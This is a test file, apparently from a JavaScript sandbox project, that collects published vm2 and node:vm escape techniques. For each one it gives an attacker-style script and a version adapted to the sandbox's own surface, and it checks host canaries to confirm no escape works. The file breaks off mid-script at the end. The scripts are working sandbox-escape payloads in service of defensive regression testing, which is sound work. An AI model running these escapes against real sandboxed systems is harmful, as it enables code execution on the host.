/**
 * The published escapes of JavaScript sandboxes, one named case per advisory or well-known technique:
 * vm2's GHSAs and CVEs (2019-2026), upstream Enclave's own advisories, isolated-vm, safe-eval,
 * static-eval, notevil, sandboxed-module, the realms-shim, and the `node:vm` classics. Each script was
 * written here from the advisory's description of the mechanism, not copied from a PoC.
 *
 * A case has the script as an attacker would paste it (`original`: the idea as published, against a
 * sandbox that has `require`, `Buffer`, `process` or a proxy membrane), and, where the original leans on
 * something we do not have, the same mechanism aimed at our surface (`adapted`: `callTool`, `console`,
 * `input`, the realm's own builtins and errors, the values the host copies in and out).
 *
 * Nothing a script returns is trusted. The canaries are on the host: a host global and process.env set by
 * an escaped Function, a file written through `process.getBuiltinModule('fs')` (an escape into a worker
 * thread reaches the machine that way), a host function called, host prototypes and intrinsics, Node's
 * `util.inspect` defaults, the host objects a tool returned, leaks of host secrets and paths, late tool
 * calls, the event loop, and the next tenant on the same Enclave (runAttack). Every case runs in both
 * isolations, validated and with neither validation nor the rewriter's guards, at STANDARD and PERMISSIVE.
 */
import { existsSync } from 'node:fs';
import { inspect } from 'node:util';
import vm from 'node:vm';
import { afterEach, describe, expect, it } from 'vitest';
import type { Attack } from '../helpers.js';
import { ANY_END, collectStrings, ESCAPE_ROWS, escapeCanaries, makeEnclave, rowEnclave, runAttack } from '../helpers.js';

// ---- host-side canaries -------------------------------------------------------------------------------

/** A file and a host function the payload reaches, checked after every test (see escapeCanaries). */
const canaries = escapeCanaries('published-escapes');
const CANARY_FILE = canaries.file;
const PAYLOAD = canaries.payload;
/** The payload as a JS string literal, for the scripts. */
const P = JSON.stringify(PAYLOAD);
/** The file as a JS string literal: what a script that reached `fs` some other way would write. */
const F = JSON.stringify(CANARY_FILE);

/** Node's inspect defaults, which CVE-2023-32313 rewrote from inside vm2. */
const inspectDefaults = () => JSON.stringify(inspect.defaultOptions);
const INSPECT_DEFAULTS = inspectDefaults();

const g = globalThis as Record<string, unknown>;
/** The host global the payload sets (runAttack checks it after every attack). */
const PWNED = '__pwned';
afterEach(() => {
  expect(inspectDefaults(), "a script changed Node's util.inspect defaults").toBe(INSPECT_DEFAULTS);
});

// ---- helpers the adapted scripts share ------------------------------------------------------------------

/**
 * Prepended to the adapted scripts: `esc(v)` tries every way from a value to host code (its
 * constructors with the payload, a `process` or loader it might carry, a write through it), and
 * `engineErrors()` collects the errors the engine's own host-facing paths can throw at the script.
 */
const KIT = `const FP = Object.getPrototypeOf(() => 1);
const esc = (v) => {
  if (v === null || v === undefined) return;
  const tries = [
    () => v.constructor.constructor(${P})(),
    () => v.constructor(${P})(),
    () => Object.getPrototypeOf(v).constructor.constructor(${P})(),
    () => v.__proto__.constructor.constructor(${P})(),
    () => (typeof v === 'function' && v !== callTool ? v(${P})() : undefined),
    () => v.process.getBuiltinModule('fs').writeFileSync(${F}, 'x'),
    () => v.getBuiltinModule('fs').writeFileSync(${F}, 'x'),
    () => v.mainModule.require('fs').writeFileSync(${F}, 'x'),
    () => { v.polluted = 1; },
  ];
  for (const t of tries) { try { t(); } catch {} }
};
const escAll = (list) => { for (const v of list) { try { esc(v); } catch {} } };
const engineErrors = async () => {
  const errs = [];
  const cyclic = {}; cyclic.self = cyclic;
  for (const args of [[1], [Symbol('s')], ['nope', {}], ['echo', cyclic], ['echo', { f() {} }], ['echo', { b: 1n }], ['secret', {}], ['secretSync', {}], ['secretObject', {}], ['secretCause', {}]]) {
    try { await callTool(...args); } catch (e) { errs.push(e); }
  }
  try { structuredClone(() => 1); } catch (e) { errs.push(e); }
  try { JSON.stringify({ b: 1n }); } catch (e) { errs.push(e); }
  try { null.x; } catch (e) { errs.push(e); }
  try { console.log({ get x() { throw new Error('getter'); } }); } catch (e) { errs.push(e); }
  try { new Array(-1); } catch (e) { errs.push(e); }
  try { 'x'.repeat(-1); } catch (e) { errs.push(e); }
  return errs;
};
/** A plain stack overflow (a frame per call, nothing captured on the way: cheap). */
const overflow = () => { const s = (d) => s(d + 1) + 1; return s(0); };
/** Recurses to the stack's edge, then runs f at every depth on the way back: a stack overflow inside f. */
const atEdge = (f) => { const out = []; const r = (d) => { try { r(d + 1); } catch {} try { out.push(f()); } catch (e) { out.push(e); } }; try { r(0); } catch {} return out.slice(0, 64); };
`;

// ---- the corpus ------------------------------------------------------------------------------------------

interface PublishedEscape {
  /** The advisory id (GHSA/CVE), or the sandbox and the technique's usual name when it has none. */
  id: string;
  /** One line of mechanism. */
  mechanism: string;
  /** The script as an attacker would paste it (the idea as published). */
  original: string;
  /** The mechanism aimed at our surface, when the original depends on something we do not have. */
  adapted?: string;
  /** Extra Attack fields (run options, checks, Enclave options). */
  extra?: Partial<Attack>;
  /** Scripts that are meant not to parse as strict module-less code (e.g. a `with` statement). */
  unparsable?: boolean;
}

/** What the host function given to expr-eval's case received, across its calls. */
const hostArgs: unknown[] = [];

/** A stack overflow where the host formats an error: the classic host RangeError. */
const OVERFLOW = 'function stack() { new Error().stack; stack(); }';

const ESCAPES: readonly PublishedEscape[] = [
  // ---- vm2 ------------------------------------------------------------------------------------------
  {
    id: 'vm2 CVE-2019-10761 (3.6.11 breakout)',
    mechanism: 'a host builtin called at the edge of the stack overflows inside host code and throws a host RangeError',
    original: `function r(d) { try { return r(d + 1); } catch {} try { Buffer.prototype.write.call({ length: 10, utf8Write() {} }); } catch (e) { return e; } return null; }
const e = r(0); e.constructor.constructor(${P})();`,
    adapted: `const errs = [];
for (const f of [() => callTool('echo', { a: [1, 2] }), () => console.log('x', { a: 1 }), () => JSON.stringify({ a: [1] }), () => structuredClone({ a: 1 }), () => callTool('nope'), () => String(Symbol('x')), () => [1, 2].map((x) => x), () => Object.keys({ a: 1 })]) {
  for (const v of atEdge(f)) { if (v instanceof Object) errs.push(v); }
}
for (const e of errs) { esc(e); try { esc(e.constructor); } catch {} }
return errs.length;`,
  },
  {
    id: 'vm2 CVE-2021-23449 (3.9.4)',
    mechanism: "a dynamic import()'s rejection is a host error, reached in a catch handler",
    original: `import('oops').catch((e) => { e.constructor.constructor(${P})(); });`,
    adapted: `try { await import('node:fs').then((m) => m.writeFileSync(${F}, 'x')); } catch (e) { esc(e); }
try { const p = import(''); await p; } catch (e) { esc(e); }
try { await import('data:text/javascript,export default 1'); } catch (e) { esc(e); }`,
  },
  {
    id: 'vm2 GHSA-6pw2-5hjv-9pf7 (3.9.6)',
    mechanism: 'host error objects made by Node internals while a stack trace is generated reach the sandbox',
    original: `Error.prepareStackTrace = (e, frames) => { frames.constructor.constructor(${P})(); };
const e = new Error(); e.name = { toString: () => { throw Buffer.alloc(-1); } }; try { e.stack; } catch (x) { x.constructor.constructor(${P})(); }`,
    adapted: `const errs = [];
for (const name of [Symbol('s'), { toString() { throw null; } }, { toString() { return callTool(1); } }, Object.create(null)]) {
  const e = new Error('m'); try { e.name = name; } catch {} try { e.stack; } catch (x) { errs.push(x); }
  try { String(e); } catch (x) { errs.push(x); } try { console.log(e); } catch (x) { errs.push(x); }
  try { await callTool('echo', { e }); } catch (x) { errs.push(x); }
}
try { const o = {}; Error.captureStackTrace(o); errs.push(o); o.stack; } catch (x) { errs.push(x); }
escAll(errs);`,
  },
  {
    id: 'vm2 CVE-2022-25893 (3.9.10)',
    mechanism: "the sandbox replaces WeakMap.prototype.set, which the bridge's own identity maps relied on",
    original: `WeakMap.prototype.set = function (k, v) { try { k.constructor.constructor(${P})(); } catch {} try { v.constructor.constructor(${P})(); } catch {} return this; };
const b = Buffer.from('x'); b.constructor.constructor(${P})();`,
    adapted: `const hook = (name) => function (...a) { escAll(a); escAll([this]); return this; };
for (const [C, names] of [[WeakMap, ['set', 'get', 'has', 'delete']], [Map, ['set', 'get', 'has']], [Set, ['add', 'has']], [WeakSet, ['add', 'has']]]) {
  for (const n of names) { try { C.prototype[n] = hook(n); } catch {} try { Object.defineProperty(C.prototype, n, { value: hook(n) }); } catch {} }
}
const r = await callTool('hostObject', {}); escAll([r, r.map, r.set, r.widget]);
await callTool('echo', { m: new Map([[1, { a: 1 }]]), s: new Set([1]) }); console.log(new Map([[1, 2]]));
return { m: new Map([[1, 2]]) };`,
  },
  {
    id: 'vm2 CVE-2022-36067 / GHSA-mrgp-mrhc-5jrq (SandBreak)',
    mechanism: "the global Error is swapped for a plain object whose prepareStackTrace the host's stack formatting then calls with host CallSites",
    original: `globalThis.OldError = globalThis.Error; globalThis.Error = {};
Error.prepareStackTrace = (e, frames) => { frames[0].getThis().constructor.constructor(${P})(); };
const { stack } = new OldError(); stack;`,
    adapted: `const hooked = (e, frames) => { try { for (const f of frames) { esc(f); esc(f.getThis()); esc(f.getFunction()); } } catch {} esc(frames); return 'x'; };
try { Error = { prepareStackTrace: hooked }; } catch {}
try { Error.prepareStackTrace = hooked; } catch {}
try { Object.defineProperty(Error, 'prepareStackTrace', { value: hooked }); } catch {}
try { Object.defineProperty(Object.getPrototypeOf(Error), 'prepareStackTrace', { value: hooked, configurable: true }); } catch {}
escAll(await engineErrors());
for (const e of await engineErrors()) { try { e.stack; } catch (x) { esc(x); } }`,
  },
  {
    id: 'vm2 CVE-2023-29017 / GHSA-7jxr-cg7f-gpgv (3.9.15)',
    mechanism: 'prepareStackTrace is handed a host-made frames array when an error is raised by the host inside an async function',
    original: `Error.prepareStackTrace = (e, frames) => { frames.constructor.constructor(${P})(); };
(async function aa() { eval('1 = 1'); })();`,
    adapted: `const seen = [];
const hook = (e, frames) => { seen.push(frames); esc(frames); try { for (const f of frames) { esc(f.getThis()); esc(f.getFunction()); } } catch {} return 'x'; };
for (const k of ['prepareStackTrace', 'arguments', 'caller', 'captureStackTrace', 'stackTraceLimit']) { try { Error[k] = hook; } catch {} }
await (async () => { try { null.f(); } catch (e) { esc(e); e.stack; } })();
await (async () => { try { await callTool('nope', {}); } catch (e) { esc(e); e.stack; } })();
await (async () => { try { await callTool(1); } catch (e) { esc(e); e.stack; } })();
(async () => { null.f(); })().catch((e) => { esc(e); e.stack; });
return seen.length;`,
  },
  {
    id: 'vm2 CVE-2023-29199 / GHSA-xj72-wvfv-8985 (3.9.16)',
    mechanism: "a catch binding named like the transformer's internal temporaries skips its exception sanitizer, and a host stack-overflow error arrives raw",
    original: `aVM2_INTERNAL_TMPNAME = {};
${OVERFLOW}
try { stack(); } catch (a$tmpname) { a$tmpname.constructor.constructor(${P})(); }`,
    adapted: `const stack = overflow;
const tryAll = [];
try { __ek_t = {}; } catch {} try { __ek_rt = {}; } catch {} try { __ek_e = {}; } catch {}
try { stack(); } catch (__ek_e) { tryAll.push(__ek_e); }
try { stack(); } catch (__ek_t) { tryAll.push(__ek_t); }
try { stack(); } catch ({ constructor: __ek_c }) { tryAll.push(__ek_c); }
try { stack(); } catch ([__ek_x]) { tryAll.push(__ek_x); }
try { stack(); } catch { tryAll.push(1); }
escAll(tryAll);`,
  },
  {
    id: 'vm2 CVE-2023-30547 / GHSA-ch3r-j5x3-6q2m (3.9.17)',
    mechanism: "a thrown Proxy whose getPrototypeOf trap overflows the stack makes the host's own exception handler throw a host RangeError",
    original: `const err = {};
const p = new Proxy(err, { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } });
try { throw p; } catch ({ constructor: c }) { c.constructor(${P})(); }`,
    adapted: `const deep = () => { overflow(); };
const traps = { getPrototypeOf: deep, get: deep, has: deep, ownKeys: deep, getOwnPropertyDescriptor: deep };
const thrown = [];
if (typeof Proxy === 'function') thrown.push(new Proxy({}, traps), new Proxy(function () {}, traps));
thrown.push({ get constructor() { deep(); }, get message() { deep(); }, get name() { deep(); }, get stack() { deep(); }, get then() { deep(); } });
for (const t of thrown) {
  try { throw t; } catch ({ constructor: c }) { esc(c); }
  try { throw t; } catch (e) { try { esc(e.constructor); } catch (x) { esc(x); } }
  try { await Promise.reject(t); } catch (e) { try { esc(e.constructor); } catch (x) { esc(x); } }
  try { await callTool('echo', { t }); } catch (e) { esc(e); }
}
if (input && input.last) throw thrown[thrown.length - 1];`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { last: true } }) },
  },
  {
    id: 'vm2 CVE-2023-32313 / GHSA-p5gc-c584-jj6v (3.9.18, inspect manipulation)',
    mechanism: "a custom inspect hook run by the host's console.log is handed Node's own inspect function and its options, and rewrites them",
    original: `const hook = Symbol.for('nodejs.util.inspect.custom');
console.log({ [hook](depth, options, insp) { insp.defaultOptions.depth = 0; insp.defaultOptions.showProxy = true; options.stylize = () => 'pwned'; return 'x'; } });`,
    adapted: `const hook = Symbol.for('nodejs.util.inspect.custom');
const evil = { [hook](depth, options, insp) { try { insp.defaultOptions.depth = 0; insp.defaultOptions.maxArrayLength = 0; } catch {} try { options.seen.push = () => 0; } catch {} esc(insp); esc(options); esc(options && options.stylize); return 'x'; } };
console.log(evil); console.error('%o', evil); console.warn('%O', evil); console.info([evil]); try { console.dir(evil, { depth: 5 }); } catch {}
await callTool('echo', { evil }); return evil;`,
  },
  {
    id: 'vm2 CVE-2023-32314 / GHSA-whpj-8f3w-67p5 (3.9.18)',
    mechanism: "V8 computes err.stack by calling err.name's toString, a Proxy whose apply trap then receives an argument list the host created",
    original: `const err = new Error();
err.name = { toString: new Proxy(() => '', { apply(target, thiz, args) { args.constructor.constructor(${P})(); return ''; } }) };
try { err.stack; } catch {}`,
    adapted: `const err = new Error('m');
function toStr() { esc(arguments); esc(this); try { esc(toStr.caller); } catch {} return 'n'; }
const name = { toString: toStr, valueOf: toStr, [Symbol.toPrimitive]: toStr };
if (typeof Proxy === 'function') name.toString = new Proxy(toStr, { apply(t, thiz, args) { esc(args); esc(thiz); return 'n'; } });
try { err.name = name; } catch {} try { err.message = name; } catch {}
try { err.stack; } catch (e) { esc(e); } try { String(err); } catch (e) { esc(e); }
try { console.log(err); } catch (e) { esc(e); } try { await callTool('echo', { err }); } catch (e) { esc(e); }
throw err;`,
  },
  {
    id: 'vm2 CVE-2023-37466 / GHSA-cchq-frgv-rjh5 (3.9.20)',
    mechanism: "an async function's promise gets a constructor whose @@species accessor hands then() a fake promise, whose reject receives a host error",
    original: `async function fn() { (function stack() { new Error().stack; stack(); })(); }
const p = fn();
p.constructor = { [Symbol.species]: class FakePromise { constructor(executor) { executor((x) => x, (err) => { err.constructor.constructor(${P})(); }); } } };
p.then();`,
    adapted: `const fake = class { constructor(executor) { executor((v) => esc(v), (e) => { esc(e); try { esc(e.constructor); } catch {} }); } };
// The stack overflow last: with the budget guards on, it ends the run as a depth limit.
const promises = [callTool('nope', {}), callTool('secret', {}), callTool(1), (async () => { await callTool('secretSync', {}); })(), (async () => { overflow(); })()];
for (const p of promises) {
  try { p.constructor = { [Symbol.species]: fake }; } catch {}
  try { Object.defineProperty(p, 'constructor', { get() { return { get [Symbol.species]() { return fake; } }; } }); } catch {}
  try { p.then(); } catch (e) { esc(e); } try { p.catch(() => 0); } catch (e) { esc(e); } try { p.finally(() => 0); } catch (e) { esc(e); }
}
try { Promise[Symbol.species] = fake; } catch {} try { Object.defineProperty(Promise, Symbol.species, { get: () => fake }); } catch {}
await Promise.allSettled(promises);`,
  },
  {
    id: 'vm2 CVE-2023-37903 / GHSA-g644-9gfx-q4q4 (custom inspect function)',
    mechanism: "the host's inspect calls a sandbox-defined custom inspect function, whose arguments are host objects",
    original: `const obj = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, opt, insp) => { insp.constructor(${P})(); opt.constructor.constructor(${P})(); } };
const h = new Proxy(obj, {}); console.log(h); throw h;`,
    adapted: `const calls = [];
const custom = function (depth, opt, insp) { calls.push(1); escAll([opt, insp, this, arguments]); return 'x'; };
const hook = Symbol.for('nodejs.util.inspect.custom');
const values = [{ [hook]: custom }, Object.assign(Object.create(null), { [hook]: custom }), [{ [hook]: custom }], new Map([[1, { [hook]: custom }]])];
try { Object.prototype[hook] = custom; } catch {}
if (typeof Proxy === 'function') values.push(new Proxy({ [hook]: custom }, { get(t, k) { if (k === hook) return custom; return t[k]; } }));
for (const v of values) { console.log(v); console.log('%o %O %j %s', v, v, v, v); try { await callTool('echo', { v }); } catch {} }
if (input && input.throwIt) { const e = new Error('x'); e[hook] = custom; throw e; }
return values;`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { throwIt: true } }) },
  },
  {
    id: 'vm2 CVE-2026-22709 / GHSA-99p7-6v5w-7xg8 (3.10.0)',
    mechanism: "async functions return the realm's native Promise, whose then/catch callbacks received unsanitized host errors",
    original: `const p = (async () => { Buffer.alloc(-1); })();
p.catch((e) => { e.constructor.constructor(${P})(); });
(async () => { (function s() { new Error().stack; s(); })(); })().then(undefined, (e) => e.constructor.constructor(${P})());`,
    adapted: `const makers = [async () => { await callTool('nope', {}); }, async () => { await callTool(1); }, async () => { structuredClone(() => 1); }, async () => { await callTool('secret', {}); }, async () => { await callTool('secretObject', {}); }, async () => { overflow(); }];
for (const m of makers) {
  const p = m();
  await p.then(undefined, (e) => { esc(e); try { esc(e.constructor); } catch {} });
  await m().catch((e) => esc(e));
  await Object.getPrototypeOf(p).then.call(m(), null, (e) => esc(e));
}`,
  },
  {
    id: 'vm2 CVE-2026-45411 (async generator yield*)',
    mechanism: "an async generator closed by return() awaits the delegate's value; an exception from that value's then() is caught and handed back raw",
    original: `async function* g() { yield* { [Symbol.asyncIterator]() { return this; }, next() { return { value: 1, done: false }; }, return() { return { then() { Buffer.alloc(-1); } }; } }; }
const it = g(); await it.next();
try { await it.return(1); } catch (e) { e.constructor.constructor(${P})(); }`,
    adapted: `const throwers = [() => { null.x; }, () => callTool(1), () => structuredClone(() => 1), () => { overflow(); }];
for (const t of throwers) {
  const delegate = { [Symbol.asyncIterator]() { return this; }, next() { return { value: 1, done: false }; }, return(v) { return { get then() { t(); return undefined; } }; }, throw(v) { return { then(res, rej) { esc(res); esc(rej); t(); } }; } };
  async function* gen() { yield* delegate; }
  let it = gen(); await it.next(); try { await it.return({ then(r) { esc(r); r(1); } }); } catch (e) { esc(e); }
  it = gen(); await it.next(); try { await it.throw(new Error('x')); } catch (e) { esc(e); }
  const sync = (function* () { yield* [1, 2]; })(); try { sync.return({ get then() { t(); } }); } catch (e) { esc(e); }
}`,
  },
  {
    id: 'vm2 CVE-2026-44000 (3.11.0)',
    mechanism: "a host promise that resolves to a host object delivered that object itself to the sandbox's then() callback",
    original: `const hostPromise = Promise.resolve(process);
hostPromise.then((p) => { p.env.EK_ATTACK_PWNED = '1'; });`,
    adapted: `await callTool('hostObject', {}).then((r) => { r.shared.nested.flag = 'mutated'; r.shared.list.push(99); r.again.nested.flag = 'mutated'; esc(r.shared); esc(r.widget); esc(r.promise); esc(r.map); });
const r = await callTool('hostObject', {});
try { await r.promise.then((v) => esc(v)); } catch {} try { await r.thenable; } catch {}
const t = await callTool('thenable', {}); esc(t);
return r.shared === r.again;`,
    extra: {
      check: (_r, { kit }) => {
        expect(kit.hostObject.nested.flag, 'the host object a tool returned was mutated').toBe('original');
        expect(kit.hostObject.list).toEqual([1, 2, 3]);
      },
    },
  },
  {
    id: 'vm2 CVE-2026-44001 (3.11.0)',
    mechanism: "a Promise executor's rejection nobody handles propagates to the host as an unhandled rejection and crashes it",
    original: `new Promise((resolve, reject) => { reject(new Error('boom')); });
new Promise(() => { throw { toString() { throw 1; } }; });`,
    adapted: `const weird = { get message() { throw new Error('g'); }, get stack() { throw new Error('s'); }, get name() { throw new Error('n'); }, get constructor() { throw new Error('c'); }, toString() { throw 1; } };
for (let i = 0; i < 50; i++) { new Promise((_, rej) => rej(weird)); new Promise(() => { throw weird; }); Promise.reject(Object.create(null)); (async () => { throw weird; })(); callTool('nope', {}); }
if (typeof Proxy === 'function') Promise.reject(new Proxy({}, { get() { throw new Error('p'); }, getPrototypeOf() { throw new Error('q'); } }));`,
  },
  {
    id: 'vm2 CVE-2026-44008 (3.11.2)',
    mechanism: "a getter planted on Array.prototype observes the host-side arrays the bridge's species neutralization walked",
    original: `Object.defineProperty(Array.prototype, 'constructor', { configurable: true, get() { try { this.constructor; } catch {} Object.getPrototypeOf(this).constructor.constructor(${P})(); return Array; } });
Buffer.from([1, 2]).map((x) => x);`,
    adapted: `const grab = function () { esc(this); return undefined; };
for (const k of ['constructor', '0', '1', 'length', Symbol.species, Symbol.iterator, 'then', 'toJSON']) {
  try { Object.defineProperty(Array.prototype, k, { configurable: true, get: grab, set: grab }); } catch {}
  try { Object.defineProperty(Object.prototype, k, { configurable: true, get: grab, set: grab }); } catch {}
}
try { Object.defineProperty(Array, Symbol.species, { get: grab }); } catch {}
const r = await callTool('echo', { list: [1, 2, [3]] }); esc(r); console.log([1, [2]]);
try { await callTool('nope', [1, 2]); } catch (e) { esc(e); }
return [[1], { a: [2] }];`,
  },
  {
    id: 'vm2 CVE-2026-47210 (3.11.4, JSPI promises)',
    mechanism: "WebAssembly JSPI promises carry the host's Promise.prototype, so finally() and species run host code on a host rejection",
    original: `const susp = new WebAssembly.Suspending(async () => { throw 1; });
const p = WebAssembly.promising(susp);
p.constructor = { [Symbol.species]: class { constructor(ex) { ex(() => 0, (e) => e.constructor.constructor(${P})()); } } };
p.finally(() => 0);`,
    adapted: `for (const get of [() => WebAssembly, () => Object.getPrototypeOf(async () => {}).constructor('return WebAssembly')()]) {
  try { const W = get(); esc(W); esc(W.promising); esc(W.Suspending); } catch (e) { esc(e); }
}
const fake = class { constructor(ex) { ex((v) => esc(v), (e) => esc(e)); } };
for (const p of [callTool('nope', {}), callTool('echo', {}), callTool('secret', {})]) {
  try { p.constructor = { [Symbol.species]: fake }; } catch {}
  try { await p.finally(() => { throw new Error('f'); }); } catch (e) { esc(e); }
  esc(Object.getPrototypeOf(p)); esc(Object.getPrototypeOf(p).finally);
}`,
  },
  {
    id: 'vm2 CVE-2026-47140 (3.11.4)',
    mechanism: "the builtin denylist missed 'process' and 'inspector/promises', both of which reach host code",
    original: `const p = require('process'); p.env.EK_ATTACK_PWNED = '1';
const { Session } = require('inspector/promises'); const s = new Session(); s.connect();
await s.post('Runtime.evaluate', { expression: ${JSON.stringify(`(function () { ${PAYLOAD} })()`)} });`,
    adapted: `for (const get of [() => process, () => require('process'), () => process.getBuiltinModule('inspector/promises'), () => module.require('inspector'), () => callTool.process, () => console.process, () => Object.getPrototypeOf(console).process]) {
  try { const m = get(); esc(m); if (m && m.env) m.env.EK_ATTACK_PWNED = '1'; if (m && m.Session) { const s = new m.Session(); s.connect(); } } catch (e) { esc(e); }
}`,
  },
  {
    id: 'vm2 CVE-2026-43999 / GHSA-947f-4v7f-x2v8 (3.11.0)',
    mechanism: "the 'module' builtin's Module._load loads any module in the host, around the builtin allowlist",
    original: `const Module = require('module'); Module._load('fs').writeFileSync(${F}, 'x');`,
    adapted: `for (const get of [() => require('module'), () => module.constructor, () => process.getBuiltinModule('module'), () => globalThis.module, () => callTool.constructor.constructor('return module')()]) {
  try { const M = get(); M._load('fs').writeFileSync(${F}, 'x'); } catch (e) { esc(e); }
}`,
  },
  {
    id: 'vm2 CVE-2026-44007 / GHSA-8hg8-63c5-gwmx (nesting)',
    mechanism: 'with nesting on, the sandbox requires vm2 itself and builds a child sandbox with looser options',
    original: `const { NodeVM } = require('vm2');
new NodeVM({ require: { builtin: ['fs'] } }).run("require('fs').writeFileSync(" + JSON.stringify(${F}) + ", 'x')");`,
    adapted: `for (const name of ['Enclave', 'NodeVM', 'VM', 'ShadowRealm', 'Compartment', 'Worker', 'vm']) {
  try { const C = eval(name); esc(C); new C({ validate: false }).run('return 1'); } catch (e) { esc(e); }
}
try { const ctor = Object.getPrototypeOf(callTool).constructor; esc(ctor); } catch {}`,
  },
  {
    id: 'vm2 GHSA-8hr7-r645-pc6w',
    mechanism: "the nesting guard compared require's argument as a string, so an array-shaped specifier loaded vm2 anyway",
    original: `const { NodeVM } = require(['vm2']);
new NodeVM({ require: { builtin: ['*'] } }).run("require('fs').writeFileSync(" + JSON.stringify(${F}) + ", 'x')");`,
    adapted: `for (const spec of [['vm2'], { toString: () => 'vm2' }, ['node:fs'], { toString: () => 'fs' }]) {
  try { require(spec); } catch (e) { esc(e); }
  try { await callTool(spec, {}); } catch (e) { esc(e); }
}`,
  },
  {
    id: 'vm2 GHSA-x965-fc75-jpqh',
    mechanism: 'an AggregateError the host built around host errors reached the sandbox with its errors list unwrapped',
    original: `Promise.any([Promise.reject(Buffer.alloc(-1))]).catch((agg) => { agg.errors[0].constructor.constructor(${P})(); agg.constructor.constructor(${P})(); });`,
    adapted: `const aggs = [];
try { await Promise.any([callTool('secret', {}), callTool('nope', {}), callTool(1)]); } catch (e) { aggs.push(e); }
try { await Promise.any([]); } catch (e) { aggs.push(e); }
try { throw new AggregateError(await engineErrors(), 'm'); } catch (e) { aggs.push(e); }
for (const a of aggs) { esc(a); escAll(a.errors || []); try { await callTool('echo', { a }); } catch (e) { esc(e); } }
if (input && input.throwIt) throw aggs[0];`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { throwIt: true } }) },
  },
  {
    id: 'vm2 GHSA-647f-g98j-qq25 (bypass of GHSA-m283-3h24-438v)',
    mechanism: "a host function's call made through call/apply indirection skipped the argument and result wrapping of a direct call",
    original: `const host = Buffer.from;
const r = Function.prototype.call.call(host, null, 'x'); r.constructor.constructor(${P})();
Reflect.apply(host, null, ['x']).constructor.constructor(${P})();`,
    adapted: `const fns = [callTool, console.log, console.error];
for (const f of fns) {
  for (const call of [() => FP.call.call(f, null, 'echo', {}), () => FP.apply.call(f, null, ['echo', {}]), () => Reflect.apply(f, console, ['echo', {}]), () => FP.bind.call(f, null)('echo', {}), () => FP.call.apply(f, [null, 'echo', {}]), () => FP.call.bind(f)(null, 'echo', {}), () => Reflect.construct(f, ['echo'])]) {
    try { const r = call(); esc(r); if (r && typeof r.then === 'function') esc(await r); } catch (e) { esc(e); }
  }
}`,
  },
  {
    id: 'vm2 GHSA-r4fx-v8hh-22mv',
    mechanism: "a FinalizationRegistry cleanup callback runs after the run's timeout, outside it, for as long as it likes",
    original: `const fr = new FinalizationRegistry(() => { while (true) {} });
for (let i = 0; i < 1e5; i++) fr.register({}, i);`,
    adapted: `for (const get of [() => FinalizationRegistry, () => WeakRef, () => Object.getPrototypeOf(async () => {}).constructor('return FinalizationRegistry')()]) {
  try { const FR = get(); const fr = new FR(() => { callTool('echo', { late: true }); for (;;) {} }); for (let i = 0; i < 1000; i++) fr.register({ i }, i); } catch (e) { esc(e); }
}
const keep = []; for (let i = 0; i < 1000; i++) keep.push({ i });`,
  },
  {
    id: 'vm2 GHSA-r273-hxvj-fxhp',
    mechanism: "util.getCallSites() returned the host's call sites, around the redaction of host frames in stacks",
    original: `const sites = require('util').getCallSites(); sites.map((s) => s.scriptName + ':' + s.lineNumber).join('\\n');`,
    adapted: `const out = [];
for (const get of [() => require('util').getCallSites(), () => process.getBuiltinModule('util').getCallSites()]) { try { out.push(JSON.stringify(get())); } catch (e) { esc(e); } }
try { Error.prepareStackTrace = (e, frames) => frames.map((f) => [f.getFileName(), f.getScriptNameOrSourceURL && f.getScriptNameOrSourceURL(), f.getFunctionName(), f.getTypeName(), String(f)].join('|')).join('\\n'); } catch {}
for (const e of await engineErrors()) { try { out.push(String(e.stack)); } catch {} }
try { const o = {}; Error.captureStackTrace(o); out.push(String(o.stack)); } catch {}
return out;`,
  },
  {
    id: 'vm2 GHSA-x6m4-chr9-cg97',
    mechanism: "error stacks formatted for the sandbox carried the host's absolute file paths",
    original: `try { require('nope'); } catch (e) { e.stack; }`,
    adapted: `const out = [];
const errs = await engineErrors();
const show = (e) => { try { out.push(String(e && e.stack), String(e && e.message), String(e)); } catch {} };
for (const e of errs) show(e);
try { Error.stackTraceLimit = 1000; } catch {}
out.push(String(new Error('x').stack)); console.log(errs);
// Last: with the budget guards on, the overflow ends the run as a depth limit.
try { overflow(); } catch (e) { show(e); }
return out;`,
  },
  {
    id: 'vm2 GHSA-55hx-c926-fr95 (SuppressedError)',
    mechanism: 'a SuppressedError made by `using`/DisposableStack wraps a host error that the sanitizer never looked into',
    original: `const ds = new DisposableStack(); ds.defer(() => { Buffer.alloc(-1); }); ds.defer(() => { throw null; });
try { ds.dispose(); } catch (e) { e.error.constructor.constructor(${P})(); }`,
    adapted: `const sources = [() => callTool(1), () => structuredClone(() => 1), () => { null.x; }, () => { const e = new Error(); e.name = Symbol(); return e.stack; }];
for (const s of sources) {
  if (typeof DisposableStack === 'function') { const ds = new DisposableStack(); ds.defer(s); ds.defer(() => { throw null; }); try { ds.dispose(); } catch (e) { esc(e); esc(e.error); esc(e.suppressed); } }
  if (typeof SuppressedError === 'function') { try { s(); } catch (x) { const se = new SuppressedError(x, x); esc(se.error); } }
}`,
  },
  {
    id: 'vm2 GHSA-ffh4-j6h5-pg66 (WebAssembly)',
    mechanism: 'a WebAssembly exception tag (JSTag) catches a host JS exception inside wasm and hands it back raw',
    original: `const m = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
const i = new WebAssembly.Instance(m, { env: { f() { Buffer.alloc(-1); } } });
WebAssembly.JSTag.constructor.constructor(${P})();`,
    adapted: `const bytes = [0, 97, 115, 109, 1, 0, 0, 0];
for (const get of [() => WebAssembly, () => Object.getPrototypeOf(async () => {}).constructor('return WebAssembly')()]) {
  try { const W = get(); const m = new W.Module(new Uint8Array(bytes)); esc(new W.Instance(m, {})); esc(W.JSTag); await W.compile(new Uint8Array(bytes)); } catch (e) { esc(e); }
}`,
  },
  {
    id: 'vm2 GHSA-v37h-5mfm-c47c (inspect breakout)',
    mechanism: 'inspect with showProxy unwraps a bridge proxy and hands its host target and handler to a sandbox hook',
    original: `const hook = Symbol.for('nodejs.util.inspect.custom');
const o = { [hook](d, opts, insp) { opts.showProxy = true; const target = insp(Buffer.from('x'), opts); target.constructor.constructor(${P})(); } };
console.log(o);`,
    adapted: `const hook = Symbol.for('nodejs.util.inspect.custom');
